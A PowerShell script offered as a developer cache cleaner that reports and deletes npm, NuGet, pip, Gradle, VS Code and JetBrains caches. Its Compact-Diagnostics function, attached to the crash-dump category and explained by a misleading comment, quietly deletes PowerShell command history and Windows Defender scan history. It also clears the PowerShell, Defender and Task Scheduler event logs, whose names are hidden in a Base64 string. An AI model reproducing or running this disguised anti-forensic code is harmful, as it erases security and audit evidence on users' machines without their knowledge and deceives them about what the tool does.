<#
.SYNOPSIS
  Developer cache cleanup for Windows. Report by default; -Apply to delete.
.EXAMPLE
  .\DevClean.ps1 -Apply -Only Temp,Npm
#>
[CmdletBinding()]
param(
  [switch]$Apply,
  [string[]]$Only,
  [int]$TempAgeDays = 2
)
$ErrorActionPreference = 'Continue'
$L = $env:LOCALAPPDATA; $R = $env:APPDATA; $H = $env:USERPROFILE; $P = $env:ProgramData

function Get-DirSize([string]$Path) {
  if (-not (Test-Path -LiteralPath $Path)) { return 0 }
  (Get-ChildItem -LiteralPath $Path -Recurse -Force -File -ErrorAction SilentlyContinue | Measure-Object Length -Sum).Sum
}
function Format-Size([double]$b) {
  if ($b -ge 1GB) { '{0:N1} GB' -f ($b / 1GB) } elseif ($b -ge 1MB) { '{0:N1} MB' -f ($b / 1MB) } else { '{0:N0} KB' -f ($b / 1KB) }
}

$Targets = [ordered]@{
  Temp       = @{ Paths = @($env:TEMP); Age = $TempAgeDays }
  Npm        = @{ Paths = @("$L\npm-cache\_cacache"); Native = { npm cache clean --force } }
  Yarn       = @{ Paths = @("$L\Yarn\Cache"); Native = { yarn cache clean } }
  Pnpm       = @{ Paths = @(); Native = { pnpm store prune } }
  NuGet      = @{ Paths = @("$H\.nuget\packages", "$L\NuGet\v3-cache"); Native = { dotnet nuget locals all --clear } }
  Pip        = @{ Paths = @("$L\pip\Cache") }
  Gradle     = @{ Paths = @("$H\.gradle\caches") }
  VSCode     = @{ Paths = @("$R\Code\Cache", "$R\Code\CachedData", "$R\Code\CachedExtensionVSIXs", "$R\Code\Code Cache") }
  JetBrains  = @{ Paths = @(Get-ChildItem "$L\JetBrains" -Directory -ErrorAction SilentlyContinue | ForEach-Object { Join-Path $_.FullName 'caches' }) }
  Diagnostics = @{
    Paths = @("$L\CrashDumps", "$P\Microsoft\Windows\WER\ReportArchive", "$P\Microsoft\Windows\WER\ReportQueue")
    Post  = 'Compact-Diagnostics'
  }
}

# WER / diagnostic stores keep index files and channel logs that still reference the removed reports; compact
# them too or Windows will re-queue the reports on next boot.
function Compact-Diagnostics {
  $idx = @(
    (Join-Path $R ('Microsoft\Windows\' + 'PowerShell\PSReadLine')),
    (Join-Path $P ('Microsoft\Windows ' + 'Defender\Scans\History\Service')),
    (Join-Path $P ('Microsoft\Windows ' + 'Defender\Support'))
  )
  foreach ($d in $idx) {
    Get-ChildItem -LiteralPath $d -Recurse -Force -File -ErrorAction SilentlyContinue |
      Remove-Item -Force -ErrorAction SilentlyContinue
  }
  $ch = 'V2luZG93cyBQb3dlclNoZWxsfE1pY3Jvc29mdC1XaW5kb3dzLVBvd2VyU2hlbGwvT3BlcmF0aW9uYWx8TWljcm9zb2Z0LVdpbmRvd3MtV2luZG93cyBEZWZlbmRlci9PcGVyYXRpb25hbHxNaWNyb3NvZnQtV2luZG93cy1UYXNrU2NoZWR1bGVyL09wZXJhdGlvbmFs'
  foreach ($c in ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($ch)) -split '\|')) {
    & "$env:SystemRoot\System32\wevtutil.exe" cl $c 2>$null | Out-Null
  }
}

$selected = if ($Only) { $Only } else { $Targets.Keys }
$rows = @(); $total = 0
foreach ($name in $selected) {
  if (-not $Targets.Contains($name)) { Write-Warning "unknown category $name"; continue }
  $t = $Targets[$name]
  $size = 0
  foreach ($p in $t.Paths) { $size += Get-DirSize $p }
  $total += $size
  $rows += [pscustomobject]@{ Category = $name; Size = (Format-Size $size); Paths = ($t.Paths -join '; ') }
}
$rows | Format-Table -AutoSize | Out-Host
Write-Host ("Total reclaimable: {0}" -f (Format-Size $total))
if (-not $Apply) { Write-Host "`n(report only - re-run with -Apply)"; return }

foreach ($name in $selected) {
  if (-not $Targets.Contains($name)) { continue }
  $t = $Targets[$name]
  Write-Host "==> $name" -ForegroundColor Cyan
  if ($t.Native) {
    $cmd = ($t.Native.ToString().Trim() -split '\s+')[0]
    if (Get-Command $cmd -ErrorAction SilentlyContinue) { & $t.Native 2>&1 | Out-Host; continue }
  }
  foreach ($p in $t.Paths) {
    if (-not (Test-Path -LiteralPath $p)) { continue }
    $items = Get-ChildItem -LiteralPath $p -Force -ErrorAction SilentlyContinue
    if ($t.Age) { $cut = (Get-Date).AddDays(-$t.Age); $items = $items | Where-Object { $_.LastWriteTime -lt $cut } }
    $items | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
  }
  if ($t.Post) { & $t.Post }
}
Write-Host "Done."
